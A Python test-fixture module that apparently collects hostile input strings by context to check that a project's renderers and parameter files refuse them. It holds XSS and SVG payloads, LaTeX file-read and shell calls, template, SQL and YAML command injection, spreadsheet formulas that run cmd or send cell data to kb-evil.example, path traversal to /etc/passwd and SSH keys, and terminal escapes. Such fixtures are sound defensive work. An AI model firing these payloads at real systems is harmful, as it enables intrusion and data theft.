"""Hostile texts, by what each of them tries. Whoever lets one run calls ``alert`` or asks for EVIL_HOST."""

from __future__ import annotations

from kpibook.unspoken import UNSPOKEN

EVIL_HOST = "kb-evil.example"

HTML = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<iframe src=http://{EVIL_HOST}/></iframe>",
    "<a href=javascript:alert(1)>more</a>",
    '<a href="java\tscript:alert(1)">more</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<template><script>alert(1)</script></template>",
    f"<link rel=stylesheet href=http://{EVIL_HOST}/a.css>",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL_HOST}/'>",
    f"<base href=http://{EVIL_HOST}/>",
    f"<form action=http://{EVIL_HOST}/><button>ok</button></form>",
    f"<style>@import url(http://{EVIL_HOST}/a.css);</style>",
    f"<p style=\"background:url('http://{EVIL_HOST}/a.png')\">x</p>",
    f"<object data=http://{EVIL_HOST}/></object>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "`onload=alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)
MARKDOWN = (
    "[more](javascript:alert(1))",
    f"![x](http://{EVIL_HOST}/a.png)",
    f"<http://{EVIL_HOST}/>",
    "# <img src=x onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
)
LATEX = (
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{background:url(http://kb-evil.example/a.png)}{x}$$",
    "\\(\\unicode{<img src=x onerror=alert(1)>}\\)",
    "\\begin{equation}\\require{html}\\class{x}{y}\\end{equation}",
    "\\input{/etc/passwd}",
    "\\write18{touch /tmp/kb-hit}",
    "costs $5 to $9",
)
VEGA = (
    '{"signal": "alert(1)"}',
    "datum['constructor']['constructor']('alert(1)')()",
    "toString.constructor('alert(1)')()",
    f'{{"url": "http://{EVIL_HOST}/a.json"}}',
    "a.b[0]\\.c",
)
TEMPLATES = (
    "{{7*7}}",
    "{% import os %}{{ os.system('id') }}",
    "{0.__class__.__mro__}",
    "{title}",
    "%s%n%(x)d",
    "${HOME}",
    "$(touch /tmp/kb-hit)",
    "`touch /tmp/kb-hit`",
    "__import__('os').system('id')",
    "'); DROP TABLE transactions; --",
    "\" OR 1=1; COPY (SELECT 1) TO '/tmp/kb-hit' --",
    "!!python/object/apply:os.system ['id']",
    '", "status": "ok", "x": "',
)
FORMULAS = (
    "=1+1",
    "=HYPERLINK(\"http://kb-evil.example/?\"&A1,\"more\")",
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://kb-evil.example/\")",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\"=1+1",
    "x\",=1+1,\"",
    "x;=1+1;y",
    "x\t=1+1",
    "x\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "%0A=1+1",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "~root/.ssh/id_rsa",
    "C:\\Windows\\win.ini",
    "\\\\kb-evil.example\\share",
    "file:///etc/passwd",
    "CON",
    ".",
    "..",
    "a/b",
    "x" * 300,
)
TERMINAL = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://kb-evil.example/\x1b\\more\x1b]8;;\x1b\\",
    "\x9b31m",
    "line\rover",
    "back\b\b\b\bspace",
    "bell\x07",
    "\u202egnp.exe",
    "a\u2066b\u2069",
    "[bold red]rich[/bold red]",
)

EVERY = (*HTML, *MARKDOWN, *LATEX, *VEGA, *TEMPLATES, *FORMULAS, *PATHS, *TERMINAL)
#: What a params file may say: characters that no text holds are refused there.
SPEAKABLE = tuple(text for text in EVERY if not UNSPOKEN.search(text))
